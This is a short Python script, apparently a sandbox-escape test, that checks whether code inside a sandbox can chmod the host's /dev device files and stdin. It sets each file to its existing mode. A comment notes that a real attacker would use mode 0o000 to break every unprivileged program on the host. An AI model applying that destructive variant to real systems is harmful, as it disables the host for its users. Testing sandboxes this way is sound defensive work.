# Attack: chmod the host's /dev/null, /dev/zero, /dev/full, /dev/random, /dev/urandom (bound read-write
# by --dev-bind, owned by root = the sandbox's uid) and the host /dev/null behind stdin; same mode.
import os
import stat

for dev in ["/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom"]:
    mode = stat.S_IMODE(os.stat(dev).st_mode)
    try:
        os.chmod(dev, mode)       # a real attacker would pass 0o000: every unprivileged program breaks
        print("CHMOD OK", dev, oct(mode))
    except OSError as error:
        print("could not chmod", dev, error)
try:
    os.fchmod(0, stat.S_IMODE(os.fstat(0).st_mode))
    print("CHMOD OK stdin", os.readlink("/proc/self/fd/0"))
except OSError as error:
    print("could not chmod stdin", error)
